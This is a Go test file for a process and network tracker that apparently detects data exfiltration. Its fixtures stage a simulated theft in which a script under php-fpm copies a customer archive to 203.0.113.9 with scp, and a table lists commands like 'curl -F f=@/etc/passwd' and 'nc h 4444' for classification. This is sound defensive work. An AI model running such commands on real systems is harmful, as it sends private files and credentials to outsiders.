package detect

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"interdict/sources/ecs"
)

func follow(s *scene) *tracker {
	k := newTracker()
	k.put(viewOf(s.Build()))
	return k
}

func TestAnEntityIDIsTheIdentityThatEcsDerives(t *testing.T) {
	k := keyOf(bootHash(boot), 4121, 77_000_123)
	id := ecs.EntityID(boot, 4121, 77_000_123)
	if k.entity() != id || keyOfEntity(id) != k {
		t.Errorf("got %s and %v, want %s and %v", k.entity(), keyOfEntity(id), id, k)
	}
}

func theft() *scene {
	s := newScene()
	s.image(ecs.Process, "already_running", 1, 0, "/usr/lib/systemd/systemd")
	s.image(ecs.Process, "already_running", 912, 1, "php-fpm")
	s.fork(4110, 912).exec(4110, 912, "/dev/shm/.x.sh")
	s.fork(4121, 4110).exec(4121, 4110, "scp -q /tmp/.c/customers.tar.gz deploy@203.0.113.9:in/")
	s.fork(4122, 4121)
	s.image(ecs.Process, "exec", 4122, 4121, "/usr/bin/ssh -x deploy@203.0.113.9 scp -t in/")
	s.open(4122, "/var/www/.ssh/id_ed25519", 400)
	s.open(4121, "/usr/lib/libc.so.6", 2_000_000)
	s.open(4121, "/tmp/.c/customers.tar.gz", 162_000_000)
	s.net("connection_attempted", 4122, "203.0.113.9:22", 0, 0)
	for range 6 {
		s.wait(time.Second)
	}
	s.net("transfer", 4122, "203.0.113.9:22", 48_000_000, 4_000)
	return s
}

func TestBytesThatAreToldLateTakeNothingFromTheRate(t *testing.T) {
	s := theft()
	sent := s.now
	s.now = sent.Add(-time.Hour)
	s.net("transfer", 4122, "198.51.100.7:22", 5_000, 0)
	k := follow(s)
	if got := k.transferOf(t, s.entity(4121), sent.Add(time.Second)); got.Rate != 8e6 || got.Sent != 48_005_000 {
		t.Errorf("rate %v of %d", got.Rate, got.Sent)
	}
}

func TestATransferIsTheToolWithItsSubtreeItsBytesAndItsFiles(t *testing.T) {
	s := theft()
	k := follow(s)
	got := k.transferOf(t, s.entity(4121), s.now.Add(time.Second))
	if got.Direction != Out || !got.Live || got.Sent != 48_000_000 || got.Received != 4_000 || len(got.Members) != 2 {
		t.Errorf("got %+v", got)
	}
	if what := got.What(); what != "scp ◂ .x.sh ◂ php-fpm" {
		t.Errorf("what is %q", what)
	}
	if len(got.Ancestors) != 3 || got.Ancestors[2].PID != 1 {
		t.Errorf("ancestors are %v", got.Ancestors)
	}
	if len(got.Files) != 2 || got.Files[0].Sensitive != "customer data" || got.Files[1].Sensitive != LoginKey {
		t.Errorf("files are %+v", got.Files)
	}
	if class, n := got.Content(); class != "customer data" || n != 1 {
		t.Errorf("content is %d of %s", n, class)
	}
	if got.Rate != 8e6 || len(got.Spark) != sparkSeconds {
		t.Errorf("rate %v, spark %v", got.Rate, got.Spark)
	}
	if p := got.Peers[0]; p.Addr.String() != "203.0.113.9" || p.Port != 22 || p.Process != s.entity(4122) {
		t.Errorf("peer is %+v", p)
	}
}

// A cluster gives what was read or sent, of another stream, before the execution
// that says what the parent runs.
func TestAnExecutionThatComesLateTellsOfTheParentAllTheSame(t *testing.T) {
	s := newScene()
	s.images[4110], s.images[4121] = "/usr/bin/dash", "/usr/bin/scp"
	s.process(ecs.File, "open", "access", 4121, 4110)
	for column, text := range map[ecs.Column]string{ecs.ProcessTool: "scp", ecs.ProcessToolHow: "name", ecs.FilePath: "/srv/customers.tar.gz"} {
		s.Keyword(column, text)
	}
	k := newTracker()
	k.put(viewOf(s.Build()))
	if what := k.transferOf(t, s.entity(4121), s.now).What(); what != "scp ◂ dash" {
		t.Fatalf("what is %q", what)
	}
	s.exec(4121, 4110, "scp -q /srv/customers.tar.gz outside:/srv/")
	s.Keyword(ecs.ParentCommandLine, "/bin/sh /dev/shm/.x.sh")
	k.put(viewOf(s.Build()))
	if got := k.transferOf(t, s.entity(4121), s.now); got.What() != "scp ◂ .x.sh" || got.Ancestors[0].Script != "/dev/shm/.x.sh" {
		t.Errorf("%q, %+v", got.What(), got.Ancestors)
	}
}

func TestTheSameEventsTwiceOrLateChangeNoTotal(t *testing.T) {
	s := theft()
	s.net("transfer", 4122, "203.0.113.9:22", 48_000_000, 4_000)
	s.now = s.now.Add(-3 * time.Second)
	s.net("transfer", 4122, "203.0.113.9:22", 20_000_000, 2_000)
	k := follow(s)
	if got := k.transferOf(t, s.entity(4121), s.now); got.Sent != 48_000_000 || got.Received != 4_000 {
		t.Errorf("sent %d, received %d", got.Sent, got.Received)
	}
}

func TestATransferEndsWithItsToolAndIsSettledLater(t *testing.T) {
	s := theft()
	s.net("disconnect_received", 4122, "203.0.113.9:22", 50_000_000, 4_100)
	s.exit(4122, 0).exit(4121, 255)
	k := follow(s)
	got := k.transferOf(t, s.entity(4121), s.now.Add(time.Second))
	if got.Live || got.Ended.IsZero() || got.Rate != 0 || got.Tool.ExitCode != 255 || got.Sent != 50_000_000 {
		t.Errorf("got %+v", got)
	}
	k.tick(s.now.Add(time.Minute).UnixMilli())
	if len(k.live) != 0 {
		t.Error("it still counts as moving")
	}
	if again := k.transferOf(t, s.entity(4121), s.now.Add(time.Hour)); again.Sent != 50_000_000 || len(again.Files) != 2 {
		t.Errorf("settled as %+v", again)
	}
}

func TestWhatSomebodyOutsideFetchesIsPulledAndItsBytesAreThoseOfTheLogin(t *testing.T) {
	s := newScene()
	s.image(ecs.Process, "already_running", 700, 1, "/usr/sbin/sshd -D")
	s.fork(800, 700).exec(800, 700, "/usr/lib/openssh/sshd-session -R")
	s.fork(801, 800)
	s.accepted("connection_accepted", 801, "10.0.9.5:40022", 3_000, 3_000)
	s.fork(802, 801).exec(802, 801, "sftp-server")
	s.accepted("transfer", 801, "10.0.9.5:40022", 5_000, 310_000_000)
	s.open(802, "/srv/db/shop.sql", 309_000_000)
	k := follow(s)
	got := k.transferOf(t, s.entity(802), s.now)
	if got.Direction != Pulled || got.Sent != 310_000_000 || len(got.Peers) != 1 || !got.Peers[0].Inbound {
		t.Errorf("got %+v", got)
	}
	var members []string
	for _, m := range got.Members {
		members = append(members, fmt.Sprint(m.Name, " ", m.PID))
	}
	if m := strings.Join(members, ", "); m != "sftp-server 802, sshd-session 801, sshd-session 800" {
		t.Errorf("members are %s", m)
	}
}

func TestDirectionsAreReadFromArgumentsAndElseFromBytes(t *testing.T) {
	for line, want := range map[string]Direction{
		"scp -q a.tgz bob@h:in/":                 Out,
		"scp h:/etc/x .":                         In,
		"scp ./a:b /tmp/c":                       "",
		"scp -f /etc/passwd":                     Pulled,
		"scp -r -t /tmp":                         In,
		"rsync -a /srv h::mod":                   Out,
		"rsync -a rsync://h/m /srv":              In,
		"rsync --server --sender -vl . /srv":     Pulled,
		"rsync --server -vl . /srv":              In,
		"curl -sT a.tgz https://h/":              Out,
		"curl -o out.txt https://h/":             In,
		"curl -sSfL https://h/ -o T":             In,
		"curl -F f=@/etc/passwd https://h/":      Out,
		"wget --post-file=/etc/passwd http://h/": Out,
		"curl --upl /etc/passwd https://h/":      Out,
		"curl --js @/etc/passwd https://h/":      Out,
		"curl --url https://h/ --user a:b":       In,
		"wget --post-f=/etc/passwd http://h/":    Out,
		"wget http://h/":                         In,
		"rclone copy /srv remote:bucket":         Out,
		"nc h 4444":                              "",
		"scp":                                    "",
	} {
		args := strings.Fields(line)
		if got := asked(&Process{Name: args[0], Args: args}); got != want {
			t.Errorf("%s: got %q, want %q", line, got, want)
		}
	}
	if measured(3_000, 3_000, false) != Out || measured(3_000, 9_000_000, false) != In || measured(9_000_000, 3_000, true) != Pulled {
		t.Error("bytes are misjudged")
	}
	tr := &transfer{}
	told := &Transfer{Tool: Process{Name: "curl", Args: []string{"curl", "-K", "c", "https://h/"}}, Sent: 5_000_000, Received: 4_000}
	if d := tr.direction(told); d != Out {
		t.Errorf("5 MB left, and the arguments have it %s", d)
	}
}

func TestManyProcessesStayWithinTheTablesBounds(t *testing.T) {
	s := newScene()
	k := newTracker()
	for pid := 2; pid < 40_000; pid++ {
		s.fork(pid, 1).exec(pid, 1, "true")
		if pid%2 == 0 {
			s.exit(pid, 0)
		}
		if pid%500 == 0 {
			s.wait(time.Second)
			k.put(viewOf(s.Build()))
			k.tick(s.now.UnixMilli())
		}
	}
	if n := len(k.all) - k.ended.len(); k.ended.len() != maxEnded || n > maxProcesses || k.young.len() > maxYoung {
		t.Errorf("%d run, %d ended, %d young", n, k.ended.len(), k.young.len())
	}
	if p := k.find(s.entity(101)); p == nil || k.process(p).Name != "true" || p.v != nil {
		t.Errorf("an old process is %+v", p)
	}
}

func BenchmarkTracker(b *testing.B) {
	s := newScene()
	pid := 2
	k := newTracker()
	for b.Loop() {
		b.StopTimer()
		for range 500 {
			pid++
			s.fork(pid, 1).exec(pid, 1, "true").exit(pid, 0)
		}
		v := s.Build()
		b.StartTimer()
		k.put(viewOf(v))
		k.settle(s.now.UnixMilli())
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/500, "ns/exec")
}

func TestAScriptIsWhatItsInterpreterRuns(t *testing.T) {
	for line, want := range map[string]string{
		"/bin/sh /dev/shm/.x.sh":       "/dev/shm/.x.sh",
		"bash -x ./up.sh now":          "./up.sh",
		"bash -c 'scp a b'":            "",
		"bash -lc ls":                  "",
		"bash":                         "",
		"python3.12 /srv/job.py --all": "/srv/job.py",
		"python3 -m http.server":       "",
		"sudo scp a b":                 "",
		"php-fpm pool":                 "",
	} {
		args := strings.Fields(line)
		p := Process{Name: args[0][strings.LastIndexByte(args[0], '/')+1:], Args: args}
		if got := scriptOf(&p, "", ""); got != want {
			t.Errorf("%s: got %q, want %q", line, got, want)
		}
	}
	if got := scriptOf(&Process{Name: "dash"}, "/dev/shm/.x.sh", "/bin/sh"); got != "/dev/shm/.x.sh" {
		t.Errorf("of the kernel: %q", got)
	}
}

func TestAParentThatEndsAfterItsToolIsSaidToHaveEnded(t *testing.T) {
	s := theft()
	s.exit(4122, 0).exit(4121, 0)
	k := follow(s)
	s.wait(2 * lingers * time.Millisecond)
	k.tick(s.now.UnixMilli())
	if got := k.transferOf(t, s.entity(4121), s.now); got.Live || !got.Ancestors[0].Alive() {
		t.Fatalf("before: live %v, parent %+v", got.Live, got.Ancestors[0])
	}
	s.exit(4110, 3)
	k.put(viewOf(s.Build()))
	got := k.transferOf(t, s.entity(4121), s.now)
	if up := got.Ancestors; up[0].Alive() || up[0].ExitCode != 3 || !up[1].Alive() {
		t.Errorf("after: %+v, %+v", up[0], up[1])
	}
}
